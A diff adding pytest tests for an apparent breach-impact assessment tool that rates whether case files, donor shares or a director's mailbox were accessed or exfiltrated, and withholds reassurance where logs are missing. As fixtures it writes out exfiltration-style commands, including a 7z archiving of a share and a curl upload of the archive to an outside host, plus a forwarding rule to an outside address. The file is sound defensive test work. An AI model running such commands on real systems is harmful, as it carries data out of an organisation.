@@ -1,0 +1,339 @@
+"""Each data class and channel gets one level; comfort is given only where the records carry it."""
+
+from __future__ import annotations
+
+import datetime as dt
+from typing import Any
+
+import pyarrow as pa
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from support.events import event, events_table
+from vigilia.impact.absence import chance_after_silence, chance_of_any
+from vigilia.impact.assessment import ImpactResult, assess_impact
+from vigilia.impact.gaps import find_gaps
+from vigilia.impact.locators import locator_keys
+from vigilia.model.evidence import EvidenceItem
+from vigilia.model.profile import DataClass, Profile
+from vigilia.model.result import Impact, Intrusion, Verdict
+from vigilia.store.event_store import EventStore
+
+_DAY = dt.date(2026, 1, 1)
+_CASES = DataClass(id="cases", label="Case files", where=["sharepoint:https://example.sharepoint.com/sites/Cases"])
+_DONORS = DataClass(id="donors", label="Donors", where=["share:\\\\FS01\\Donors"])
+_MAIL = DataClass(id="mail", label="Director's mail", where=["mailbox:Ada@example.org"])
+
+
+def _intrusion(first: int = 20, last: int = 30, verdict: Verdict = "intrusion") -> Intrusion:
+    return Intrusion(
+        verdict=verdict,
+        probability=0.95,
+        first_seen=f"{_DAY + dt.timedelta(days=first)}T08:00:00.000000Z",
+        last_seen=f"{_DAY + dt.timedelta(days=last)}T18:00:00.000000Z",
+        dwell_days=float(last - first),
+        accounts=[],
+        addresses=[],
+        hosts=[],
+        sessions=[],
+    )
+
+
+def _at(day: int, hour: int = 10) -> str:
+    return f"{_DAY + dt.timedelta(days=day)}T{hour:02}:00:00+00:00"
+
+
+def _cloud(day: int, action: str, where: str, provider: str = "SharePoint", **fields: str) -> dict[str, Any]:
+    return event(
+        0, at=_at(day), event__action=action, event__provider=provider, vigilia__objects=[where], fields=fields
+    )
+
+
+def _share_read(day: int, path: str, **columns: Any) -> dict[str, Any]:
+    return event(
+        0,
+        at=_at(day),
+        vigilia__source="windows",
+        event__code="5145",
+        event__action="5145",
+        event__provider="Security",
+        host__name="FS01.example.org",
+        vigilia__objects=[f"share:\\\\FS01\\{path}"],
+        **columns,
+    )
+
+
+def _background(days: range = range(60)) -> list[dict[str, Any]]:
+    """Everyday work in all three channels, every day."""
+    site = "sharepoint:https://example.sharepoint.com/sites/Everyday/a.docx"
+    rows = [_cloud(day, "FileAccessed", site) for day in days]
+    rows += [_cloud(day, "MailItemsAccessed", "mailbox:bo@example.org", "Exchange") for day in days]
+    rows += [_share_read(day, "Everyday\\a.docx") for day in days]
+    return rows
+
+
+def _assess(
+    background: list[dict[str, Any]],
+    intruder: list[dict[str, Any]],
+    classes: list[DataClass],
+    chance: float = 0.95,
+    intrusion: Intrusion | None = None,
+    items: list[EvidenceItem] | None = None,
+) -> ImpactResult:
+    table = events_table([event(10_000, at=_at(0)), *background, *intruder])
+    ids = table["event.id"].to_pylist()[1 + len(background) :]
+    marked = pa.table(
+        {"event.id": pa.array(ids, pa.string()), "probability": pa.array([chance] * len(ids), pa.float64()),
+         "reason": pa.array(["test"] * len(ids), pa.string())}
+    )  # fmt: skip
+    profile = Profile(data=classes)
+    seen = intrusion or _intrusion()
+    with EventStore.from_table(table) as store:
+        store.register("intruder_events", marked)
+        return assess_impact(store, items or [], find_gaps(store, items or [], profile, seen), seen, profile)
+
+
+def _one(*arguments: Any, **more: Any) -> Impact:
+    (row,) = _assess(*arguments, **more).impact
+    return row
+
+
+def test_a_recorded_download_is_exfiltration_of_that_class_only() -> None:
+    taken = _cloud(22, "FileDownloaded", "sharepoint:https://EXAMPLE.sharepoint.com/sites/cases/2026/x.docx")
+    other = DataClass(id="o", label="Other", where=["sharepoint:https://example.sharepoint.com/sites/Case"])
+    cases, neighbour = _assess(_background(), [taken], [_CASES, other]).impact
+    assert (cases.level, cases.objects_count) == ("E0", 1)
+    assert cases.event_ids
+    assert neighbour.level == "E3", "a path is matched at its borders, not in the middle of a name"
+
+
+@pytest.mark.parametrize(("chance", "level"), [(0.95, "E0"), (0.6, "E1"), (0.3, "E4"), (0.1, "E3")])
+def test_an_uncertain_download_is_never_shown_as_certain_nor_as_silence(chance: float, level: str) -> None:
+    taken = _cloud(22, "FileDownloaded", "sharepoint:https://example.sharepoint.com/sites/Cases/x.docx")
+    assert _one(_background(), [taken], [_CASES], chance).level == level
+
+
+def test_reading_a_document_is_access_with_the_window_printed() -> None:
+    read = _cloud(22, "FileAccessed", "sharepoint:https://example.sharepoint.com/sites/Cases/x.docx")
+    row = _one(_background(), [read], [_CASES])
+    assert row.level == "E2"
+    assert "No evidence that they left by this channel was found" in row.statement
+    assert "cover 11 of these 11 day(s) (100%)" in row.statement
+    assert "1 of the 1 channel(s)" in row.statement
+    assert "%)." in row.statement
+
+
+def test_percent_signs_in_an_address_do_not_hide_its_documents() -> None:
+    where = "sharepoint:https://example.sharepoint.com/sites/Cases/Shared%20Documents"
+    read = _cloud(22, "FileAccessed", "sharepoint:https://example.sharepoint.com/sites/Cases/Shared Documents/x.docx")
+    assert _one(_background(), [read], [DataClass(id="c", label="C", where=[where])]).level == "E2"
+
+
+def test_a_failed_attempt_reaches_nothing() -> None:
+    tried = _share_read(22, "Donors\\x.xlsx", event__outcome="failure")
+    assert _one(_background(), [tried], [_DONORS]).level == "E3"
+
+
+def test_reading_a_share_from_inside_is_access_and_from_outside_is_probably_leaving() -> None:
+    inside = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
+    outside = _share_read(22, "Donors\\x.xlsx", source__ip="203.0.113.9")
+    assert _one(_background(), [inside], [_DONORS]).level == "E2"
+    assert _one(_background(), [outside], [_DONORS]).level == "E1"
+
+
+def _command(day: int, line: str) -> dict[str, Any]:
+    return event(0, at=_at(day), vigilia__source="windows", event__code="1", process__command_line=line)
+
+
+def test_packing_after_reading_is_told_and_packing_with_egress_is_probably_leaving() -> None:
+    read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
+    pack = _command(23, 'C:\\Tools\\7z.exe a c:\\temp\\a.7z "\\\\FS01\\Donors"')
+    send = _command(24, "curl -T c:\\temp\\a.7z https://files.example.net/")
+    packed = _one(_background(), [read, pack], [_DONORS])
+    assert packed.level == "E2"
+    assert packed.probability >= 0.5
+    assert "packed into archives" in packed.statement
+    assert _one(_background(), [read, pack, send], [_DONORS]).level == "E1"
+    assert _one(_background(), [send, pack], [_DONORS]).level == "E3", "nothing of this class was read before"
+
+
+def test_an_archive_fetched_from_the_web_server_is_egress() -> None:
+    read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
+    pack = _command(23, "rar a d.rar .")
+    fetch = event(
+        0,
+        at=_at(24),
+        vigilia__source="web.access",
+        url__original="/images/d.RAR?x=1",
+        http__response__status_code=200,
+        vigilia__bytes=5_000_000,
+    )
+    assert _one(_background(), [read, pack, fetch], [_DONORS]).level == "E1"
+
+
+def _mail(day: int, kind: str, **fields: Any) -> dict[str, Any]:
+    return event(
+        0,
+        at=_at(day),
+        event__action="MailItemsAccessed",
+        event__provider="Exchange",
+        vigilia__objects=["mailbox:ada@example.org"],
+        fields={"OperationProperties.MailAccessType": kind} | fields,
+    )
+
+
+def test_opened_messages_are_access_and_are_counted_by_message_id() -> None:
+    ids = {"Folders.FolderItems.InternetMessageId": ["<1@example.org>", "<2@example.org>"]}
+    again = {"Folders.FolderItems.InternetMessageId": "<2@example.org>"}
+    row = _one(_background(), [_mail(22, "Bind", **ids), _mail(23, "Bind", **again)], [_MAIL])
+    assert (row.level, row.objects_count) == ("E2", 2)
+
+
+def test_synchronising_a_mailbox_is_probably_leaving() -> None:
+    assert _one(_background(), [_mail(22, "Sync")], [_MAIL]).level == "E1"
+
+
+def test_reading_while_throttled_means_assume_all_of_it() -> None:
+    throttled = _mail(22, "Bind", **{"OperationProperties.IsThrottled": "True"})
+    assert _one(_background(), [throttled], [_MAIL]).level == "E1"
+
+
+def test_a_throttled_day_of_the_mailbox_forbids_comfort_and_that_of_another_does_not() -> None:
+    own = _mail(22, "Bind", **{"OperationProperties.IsThrottled": "True"})
+    assert _one([*_background(), own], [], [_MAIL]).level == "E4"
+    other = _cloud(22, "MailItemsAccessed", "mailbox:bo@example.org", "Exchange")
+    other["vigilia.fields"] = '{"OperationProperties.IsThrottled": "True"}'
+    assert _one([*_background(), other], [], [_MAIL]).level == "E3"
+
+
+def test_a_forwarding_rule_is_probably_leaving_and_a_sorting_rule_is_not() -> None:
+    def rule(**fields: str) -> dict[str, Any]:
+        return event(
+            0,
+            at=_at(22),
+            event__action="New-InboxRule",
+            event__provider="Exchange",
+            user__name="ada@example.org",
+            fields=fields,
+        )
+
+    assert _one(_background(), [rule(**{"Parameters.ForwardTo": "x@example.net"})], [_MAIL]).level == "E1"
+    assert _one(_background(), [rule(**{"Parameters.MoveToFolder": "RSS"})], [_MAIL]).level == "E3"
+
+
+def test_an_exported_content_search_may_hold_any_mailbox() -> None:
+    export = event(0, at=_at(22), event__action="SearchExportDownloaded", event__provider="SecurityComplianceCenter")
+    assert _one(_background(), [export], [_MAIL]).level == "E1"
+
+
+def test_silence_of_whole_records_is_no_evidence_and_never_certainty() -> None:
+    row = _one(_background(), [], [_DONORS])
+    assert row.level == "E3"
+    assert row.window_covered == 1.0
+    assert 0 < row.probability < 0.2
+    assert "no evidence that it left by this channel" in row.statement
+
+
+@pytest.mark.parametrize(
+    ("days", "words"),
+    [
+        (range(0), "there is no record"),
+        (range(25, 60), "cover only 55% of the days"),
+        (range(26), "cover only 55% of the days"),
+        (range(18, 60), "may have been in before"),
+    ],
+)
+def test_no_comfort_where_records_are_missing(days: range, words: str) -> None:
+    """Whatever part of the window lacks records: the level is E4, the reason is told, and no evidence isn't claimed."""
+    row = _one(_background(days), [], [_DONORS])
+    assert row.level == "E4"
+    assert words in row.statement
+    assert "No evidence" not in row.statement
+    assert "no evidence" not in row.statement
+
+
+def test_no_comfort_after_the_log_was_cleared() -> None:
+    cleared = event(
+        0,
+        at=_at(25),
+        vigilia__source="windows",
+        event__code="1102",
+        event__provider="Security",
+        host__name="FS01.example.org",
+    )
+    assert _one([*_background(), cleared], [], [_DONORS]).level == "E4"
+
+
+def test_no_comfort_where_part_of_the_log_could_not_be_read() -> None:
+    lost = EvidenceItem(item="", path="fs01.evtx", sha256="", bytes=1, status="quarantined")
+    assert _one(_background(), [], [_DONORS], items=[lost]).level == "E4"
+
+
+def test_a_place_of_a_kind_without_a_reader_cannot_be_determined() -> None:
+    assert _one(_background(), [], [DataClass(id="crm", label="CRM", where=["table:crm.donors"])]).level == "E4"
+
+
+@settings(max_examples=15, deadline=None)
+@given(st.sets(st.integers(0, 59)), st.sampled_from([_CASES, _DONORS, _MAIL]))
+def test_e3_is_never_given_when_a_day_at_either_end_lacks_records(missing: set[int], data_class: DataClass) -> None:
+    days = [day for day in range(60) if day not in missing]
+    rows = [row for day in days for row in _background(range(day, day + 1))]
+    row = _one(rows, [], [data_class])
+    covered_from = min(days, default=99)
+    covered_to = max(days, default=-1)
+    if covered_from > 13 or covered_to < 30:
+        assert row.level == "E4"
+
+
+def test_nobody_found_gives_no_level_and_no_all_clear() -> None:
+    result = _assess(_background(), [], [_DONORS], intrusion=_intrusion(verdict="none-found"))
+    assert result.impact == []
+    (only,) = result.statements
+    assert "no proof that nothing was reached" in only.text
+    assert only.gap_ids
+
+
+def test_without_a_profile_the_built_in_classes_are_rated_and_the_profile_is_asked_for() -> None:
+    result = _assess(_background(), [_mail(22, "Bind")], [])
+    assert [(row.data_class, row.level) for row in result.impact] == [
+        ("mail", "E2"),
+        ("documents", "E3"),
+        ("shares", "E3"),
+    ]
+    assert any("org.toml" in one.text for one in result.statements)
+
+
+def test_statements_have_one_headline_each_row_counsel_and_numbered_ids() -> None:
+    result = _assess(_background(), [_mail(22, "Bind")], [_MAIL, _DONORS])
+    assert [one.id for one in result.statements] == [f"impact-{n}" for n in range(1, len(result.statements) + 1)]
+    assert [one.weight for one in result.statements].count("headline") == 1
+    assert {row.statement for row in result.impact} <= {one.text for one in result.statements}
+    (counsel,) = [one for one in result.statements if one.question == "what-now"]
+    assert "legal counsel" in counsel.text
+    assert "Director's mail" in counsel.text
+    assert "Donors" not in counsel.text
+
+
+@given(st.floats(0, 1), st.floats(0, 1), st.floats(0, 1), st.floats(0, 1))
+def test_more_telemetry_never_raises_the_chance_that_data_left(
+    prior: float, sensitivity: float, one: float, other: float
+) -> None:
+    less, more = sorted((one, other))
+    assert chance_after_silence(prior, more, sensitivity) <= chance_after_silence(prior, less, sensitivity) + 1e-12
+    assert chance_after_silence(prior, more, sensitivity) <= prior + 1e-12
+
+
+def test_the_arithmetic_of_a_log_that_saw_a_fifth_of_the_stay() -> None:
+    """461 days of dwell, 90 days of log, prior one half, sensitivity 0.9: the belief moves by five points only."""
+    assert chance_after_silence(0.5, 0.195, 0.9) == pytest.approx(0.45, abs=0.005)
+    assert chance_after_silence(0.5, 1.0, 0.9) == pytest.approx(0.09, abs=0.005)
+
+
+def test_chances_of_several_ways_multiply() -> None:
+    assert chance_of_any([0.5, 0.5]) == pytest.approx(0.75)
+
+
+def test_a_share_is_known_by_its_servers_first_label() -> None:
+    assert locator_keys("share:\\\\FS01.example.org\\Donors\\") == ["share://fs01/donors"]
+    assert locator_keys("share:\\\\192.0.2.4\\Donors") == ["share://192.0.2.4/donors"]
